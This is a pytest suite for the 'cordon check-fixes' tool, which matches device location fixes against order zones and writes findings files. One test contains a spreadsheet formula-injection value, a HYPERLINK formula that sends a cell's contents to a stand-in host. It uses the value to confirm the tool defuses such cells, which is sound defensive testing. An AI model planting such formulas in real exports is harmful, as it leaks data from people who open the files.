"""cordon check-fixes: what it writes, what it leaves alone, and how it ends."""

import csv
import errno
import json
import os
import stat
from pathlib import Path
from typing import Any

import geopandas
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner, Result
from pyogrio.errors import DataSourceError

from cordon.actions.orders import add_order
from cordon.actions.zones import NewShape, Options, add_zones
from cordon.cli.fixes import check_fixes
from cordon.desk import Desk
from cordon.file import NotWritten, writing_to
from cordon.part import Parts
from monitor.answered import Answered
from monitor.fixfile.read import read_blocks
from monitor.register import Register
from tests.builders import at, order, square
from zones.error import CordonError
from zones.zone import MadeBy

HEADER = "device,time,latitude,longitude,radius_95_m"
ROW = "T,2026-03-03T12:00Z,50.801,0.0,10"


@pytest.fixture
def case(desk: Desk, tmp_path: Path) -> Path:
    add_order(desk, order())
    add_zones(desk, "SPO/2026/1", [NewShape(shape=square(), made_by=MadeBy.DRAWN, source="a test")], Options())
    folder = tmp_path / "case"
    folder.mkdir()
    return folder


def fixes(path: Path, *rows: str) -> Path:
    path.write_text("\n".join([HEADER, *rows]))
    return path


def run(*words: str | Path) -> Result:
    return CliRunner().invoke(check_fixes, [str(word) for word in words])


def counts(*words: str | Path) -> dict[str, int]:
    done = run(*words, "--json")
    assert done.exception is None, done.exception
    found = json.loads(done.stdout)
    assert isinstance(found, dict)
    return found


def refusal(*words: str | Path) -> str:
    """The sentence that the command ends with; the outermost door shows it on stderr and exits 2."""
    done = run(*words)
    assert isinstance(done.exception, CordonError), done.exception
    return str(done.exception)


def recorded(desk: Desk) -> tuple[int, ...]:
    """How many fixes, checks and audit events there are."""
    with desk.engine.connect() as connection:
        return tuple(
            int(connection.exec_driver_sql(f"SELECT count(*) FROM {table}").scalar_one())
            for table in ("fix", "recorded_check", "audit_event")
        )


@pytest.mark.parametrize(
    ("given", "out"),
    [("same.csv", "same.csv"), ("y.csv.refused.csv", "y.csv"), ("same.csv", "linked.csv")],
    ids=["as the findings", "as the refused rows", "by another name"],
)
def test_the_file_that_is_read_is_never_written(case: Path, given: str, out: str) -> None:
    file = fixes(case / given, ROW)
    if out == "linked.csv":
        os.link(file, case / out)
    before = file.read_bytes()
    assert refusal(file, "--out", case / "." / out).startswith("--out: ")
    assert file.read_bytes() == before


@pytest.mark.parametrize("out", ["nofolder/out.csv", "folder.csv", "folder.parquet", "x" * 300 + ".csv", "y.csv"])
def test_where_the_output_cant_be_written_nothing_is_recorded_or_left(case: Path, desk: Desk, out: str) -> None:
    for folder in ("folder.csv", "folder.parquet", "y.csv.refused.csv"):
        (case / folder).mkdir()
    file = fixes(case / "fixes.csv", ROW)
    before, there = recorded(desk), sorted(case.iterdir())
    assert refusal(file, "--out", case / out, "--record").startswith("--out: ")
    assert recorded(desk) == before
    assert sorted(case.iterdir()) == there


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_a_failure_at_the_last_moment_leaves_no_record_and_no_output(
    case: Path, desk: Desk, monkeypatch: pytest.MonkeyPatch, suffix: str
) -> None:
    def full(*_: object) -> object:
        raise OSError(28, "No space left on device")

    file = fixes(case / "fixes.csv", ROW)
    before = recorded(desk)
    monkeypatch.setattr("cordon.cli.fixes.refusal_rows", full)
    assert "No space left on device" in refusal(file, "--out", case / f"out{suffix}", "--record")
    assert recorded(desk) == before
    assert list(case.iterdir()) == [file]


@pytest.mark.parametrize("suffix", [".csv", ".parquet"])
def test_fixes_are_recorded_once_and_the_output_is_whole(case: Path, desk: Desk, suffix: str) -> None:
    file, out = fixes(case / "fixes.csv", ROW, "T"), case / f"out{suffix}"
    assert counts(file, "--out", out, "--record") == {
        "rows_in": 2, "answered": 1, "refused": 1, "far": 0, "findings": 1,
    }  # fmt: skip
    assert recorded(desk)[:2] == (1, 1)
    assert sorted(path.name for path in case.iterdir()) == ["fixes.csv", out.name, f"{out.name}.refused.csv"]
    if suffix == ".parquet":
        row = pq.read_table(out).to_pylist()[0]
        assert (row["row"], row["device"], row["time"], row["near"]) == (1, "T", at("2026-03-03T12:00Z"), False)
    else:
        assert out.read_text().splitlines()[1].startswith("1,T,2026-03-03T12:00:00Z,SPO/2026/1,Zone A,1,inside,-70.")


def test_a_cell_that_a_spreadsheet_would_run_is_text_in_the_output(case: Path) -> None:
    cell = '=HYPERLINK("http://example.test/?"&A1,"open")'
    quoted = '"' + cell.replace('"', '""') + '"'
    file, out = fixes(case / "fixes.csv", quoted + ROW[1:], f"T,{quoted},50.801,0.0,10"), case / "out.csv"
    assert counts(file, "--out", out)["refused"] == 1
    with out.open(newline="") as table, (case / "out.csv.refused.csv").open(newline="") as refused:
        assert next(csv.DictReader(table))["device"] == f"'{cell}"
        assert next(csv.DictReader(refused))["value"] == f"'{cell}"
    assert counts(file, "--out", case / "out.parquet")["answered"] == 1
    assert pq.read_table(case / "out.parquet").to_pylist()[0]["device"] == cell


@pytest.mark.parametrize("device", ["-5", "+447700900123", "tag 7", "A=1", "1e5", "T-1"])
def test_a_device_that_runs_nowhere_is_that_very_text(case: Path, device: str) -> None:
    file, out = fixes(case / "fixes.csv", device + ROW[1:]), case / "out.csv"
    counts(file, "--out", out)
    with out.open(newline="") as table:
        assert next(csv.DictReader(table))["device"] == device


def test_a_trail_of_gpx_is_checked_with_the_radius_that_is_stated(case: Path) -> None:
    point = '<trkpt lat="50.801" lon="0.0"><time>2026-03-03T12:00Z</time></trkpt>'
    file, out = case / "trail.gpx", case / "out.csv"
    file.write_text(f"<gpx><trk><trkseg>{point}</trkseg></trk></gpx>")
    assert counts(file, "--out", out)["refused"] == 1
    assert "--radius METRES" in (case / "out.csv.refused.csv").read_text()
    assert counts(file, "--out", out, "--radius", "10")["findings"] == 1
    assert refusal(file, "--out", out, "--radius", "-1").startswith("--radius: ")


def test_nothing_is_written_into_the_folder_that_is_read(case: Path) -> None:
    folder = case / "parts"
    (folder / "date=2026-03-03").mkdir(parents=True)
    name, row = HEADER.split(","), ROW.split(",")
    table = pa.table([[value] for value in row], names=name)
    pq.write_table(table, folder / "date=2026-03-03" / "a.parquet")
    for out in (folder / "out.parquet", folder / "date=2026-03-03" / "out.csv"):
        assert "lies in the folder of fixes" in refusal(folder, "--out", out)
    assert counts(folder, "--out", case / "out.csv")["findings"] == 1


def many(path: Path, count: int) -> Path:
    """Around the zone's western edge, a fix a minute."""
    return fixes(path, *(f"T,2026-03-{3 + n // 1440:02}T{n // 60 % 24:02}:{n % 60:02}Z,50.801,{-0.003 + n % 50 / 10_000},10"
                         if n % 7 else "T,when?,50.801,0.0,10" for n in range(count)))  # fmt: skip


@pytest.fixture
def small_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("monitor.fixfile.lines.BLOCK_BYTES", 2_000)
    monkeypatch.setattr("monitor.fixfile.read.BLOCK_ROWS", 50)


@pytest.mark.usefixtures("small_blocks")
@pytest.mark.parametrize("suffix", [".csv", ".parquet", ".gpkg"])
def test_a_check_that_was_stopped_goes_on_where_it_was(
    case: Path, monkeypatch: pytest.MonkeyPatch, suffix: str
) -> None:
    file, out, whole = many(case / "fixes.csv", 700), case / f"out{suffix}", case / f"whole{suffix}"
    counted = counts(file, "--out", whole, "--workers", "1")
    assert counted["refused"] == 100
    asked: list[int] = []
    answer = Register.answer

    def stopped(self: Register, batch: Any) -> Any:
        asked.append(len(batch))
        if len(asked) == 4:
            raise KeyboardInterrupt
        return answer(self, batch)

    monkeypatch.setattr(Register, "answer", stopped)
    assert run(file, "--out", out, "--workers", "1").exit_code != 0
    assert not out.exists()
    assert stat.S_IMODE((case / f"out{suffix}.partial").stat().st_mode) == 0o700
    before = len(asked)
    (case / f"out{suffix}.partial" / "000003.arrow").write_bytes(b"ARROW1 half written")
    done = run(file, "--out", out, "--workers", "1", "--json")
    assert json.loads(done.stdout) == counted
    assert "goes on from there" in done.stderr
    assert len(asked) - before == len(list(read_blocks(file, {}))) - 3
    assert same(out, whole)
    assert not (case / f"out{suffix}.partial").exists()


@pytest.mark.usefixtures("small_blocks")
def test_a_check_that_a_full_disk_stopped_goes_on_where_it_was(case: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file, out, whole = many(case / "fixes.csv", 700), case / "out.csv", case / "whole.csv"
    counted = counts(file, "--out", whole, "--workers", "1")
    keep, kept = Parts.keep, list[int]()

    def full(self: Parts, answered: Answered) -> None:
        if len(kept) == 3:
            with writing_to(out, "--out"):
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        kept.append(1)
        keep(self, answered)

    with monkeypatch.context() as patched:
        patched.setattr(Parts, "keep", full)
        done = run(file, "--out", out, "--workers", "1")
    assert isinstance(done.exception, NotWritten)
    assert "No space left on device" in str(done.exception)
    assert "goes on from there" in done.stderr
    assert not out.exists()
    again = run(file, "--out", out, "--workers", "1", "--json")
    assert "goes on from there" in again.stderr
    assert json.loads(again.stdout) == counted
    assert same(out, whole)


def same(one: Path, other: Path) -> bool:
    if one.suffix == ".gpkg":
        return bool(geopandas.read_file(one).equals(geopandas.read_file(other)))
    return one.read_bytes() == other.read_bytes()


@pytest.mark.usefixtures("small_blocks")
def test_what_was_begun_is_not_gone_on_with_where_something_else_is_asked(
    case: Path, desk: Desk, monkeypatch: pytest.MonkeyPatch
) -> None:
    file, out = many(case / "fixes.csv", 700), case / "out.csv"

    def stopped() -> None:
        with monkeypatch.context() as patched:
            answer, asked = Register.answer, [0]

            def once(self: Register, batch: Any) -> Any:
                asked[0] += 1
                if asked[0] > 2:
                    raise KeyboardInterrupt
                return answer(self, batch)

            patched.setattr(Register, "answer", once)
            assert run(file, "--out", out, "--workers", "1").exit_code != 0

    def said() -> bool:
        done = run(file, "--out", out, "--workers", "1", "--json")
        assert done.exception is None
        return "goes on from there" in done.stderr

    stopped()
    many(file, 699)
    assert not said()
    stopped()
    add_zones(desk, "SPO/2026/1", [NewShape(shape=square(0.01), made_by=MadeBy.DRAWN, source="a test")], Options())
    assert not said()
    stopped()
    assert said()


def test_a_geopackage_has_a_point_for_each_finding(case: Path) -> None:
    file, out = fixes(case / "fixes.csv", "A" + ROW[1:], "B,2026-03-03T12:00Z,50.9,0.0,10"), case / "out.gpkg"
    assert counts(file, "--out", out)["far"] == 1
    found = geopandas.read_file(out)
    assert found.crs == "EPSG:4326"
    assert [(row.device, row.outcome, row.near, row.geometry.wkt) for row in found.itertuples()] == [
        ("A", "inside", False, "POINT (0 50.801)"),
    ]  # fmt: skip
    assert (
        counts(fixes(case / "far.csv", "B,2026-03-03T12:00Z,50.9,0.0,10"), "--out", case / "none.gpkg")["findings"] == 0
    )
    assert len(geopandas.read_file(case / "none.gpkg")) == 0


def test_a_geopackage_holds_times_to_the_millisecond(case: Path) -> None:
    file, out = fixes(case / "fixes.csv", ROW.replace("12:00Z", "12:00:00.123456Z")), case / "out.gpkg"
    counts(file, "--out", out)
    (found,) = geopandas.read_file(out)["time"].tolist()
    assert found.isoformat() == "2026-03-03T12:00:00.123000+00:00"


def test_a_geopackage_that_can_not_be_written_is_refused_by_the_options_name(
    case: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object, **__: object) -> None:
        raise DataSourceError("disk full")

    monkeypatch.setattr("pyogrio.raw.write", full)
    said = refusal(fixes(case / "fixes.csv", ROW), "--out", case / "out.gpkg")
    assert said.startswith("--out: ")
    assert "disk full" in said


def test_columns_that_were_named_once_are_known_of_the_next_file_with_the_same_header(case: Path, desk: Desk) -> None:
    first, second, other = case / "a.csv", case / "b.csv", case / "c.csv"
    for path, header in ((first, "WHO,WHEN,y,x,acc"), (second, "WHO,WHEN,y,x,acc"), (other, "WHO,WHEN,y,x,acc,more")):
        path.write_text(f"{header}\n{ROW}{',1' if path == other else ''}\n")
    named = "device=WHO,time=WHEN,radius_95_m=acc"
    assert "--columns" in refusal(first, "--out", case / "out.csv")
    assert counts(first, "--out", case / "out.csv", "--columns", named)["answered"] == 1
    done = run(second, "--out", case / "out.csv", "--json")
    assert json.loads(done.stdout)["answered"] == 1
    assert "--columns device=WHO,radius_95_m=acc,time=WHEN" in done.stderr
    assert "--columns" in refusal(other, "--out", case / "out.csv")
    (desk.settings.folder / "columns.json").write_text("[not JSON")
    assert "--columns" in refusal(second, "--out", case / "out.csv")


def test_a_cluster_is_no_place_for_workers_of_its_own(case: Path) -> None:
    file = fixes(case / "fixes.csv", ROW)
    assert "--workers" in refusal(file, "--out", case / "out.csv", "--dask", "tcp://127.0.0.1:9", "--workers", "2")


def test_the_answers_for_each_order_s_zones_together_are_a_table_of_their_own(case: Path, desk: Desk) -> None:
    east = NewShape(shape=square(0.001, size=0.002), made_by=MadeBy.DRAWN, source="a test")
    add_zones(desk, "SPO/2026/1", [east], Options())
    file = fixes(case / "fixes.csv", "T,2026-03-03T12:00Z,50.801,0.001,10", "T,2026-03-03T12:00Z,50.9,0.001,10")
    assert counts(file, "--out", case / "out.csv", "--orders", case / "orders.csv")["findings"] == 2
    with (case / "out.csv").open(newline="") as found, (case / "orders.csv").open(newline="") as together:
        assert [row["outcome"] for row in csv.DictReader(found)] == ["indeterminate", "indeterminate"]
        rows = list(csv.DictReader(together))
    assert [(row["row"], row["order"], row["zones"], row["outcome"]) for row in rows] == [
        ("1", "SPO/2026/1", "Zone A, Zone B", "inside"),
    ]  # fmt: skip
    counts(file, "--out", case / "out.parquet", "--orders", case / "orders.parquet", "--record")
    assert pq.read_table(case / "orders.parquet").column("outcome").to_pylist() == ["inside"]
    assert pq.read_table(case / "orders.parquet").schema.field("zones").type == "string"
    assert refusal(file, "--out", case / "out.csv", "--orders", case / "orders.doc").startswith("--orders: ")


def test_rows_that_nobody_answered_are_never_passed_over_in_silence(
    case: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    file, out = fixes(case / "fixes.csv", ROW, ROW), case / "out.csv"
    monkeypatch.setattr("cordon.cli.fixes.answer_in_processes", lambda *_, **__: iter(()))
    done = run(file, "--out", out)
    assert isinstance(done.exception, RuntimeError)
    assert "of 2 rows 0 were answered" in str(done.exception)
    assert list(case.iterdir()) == [file]
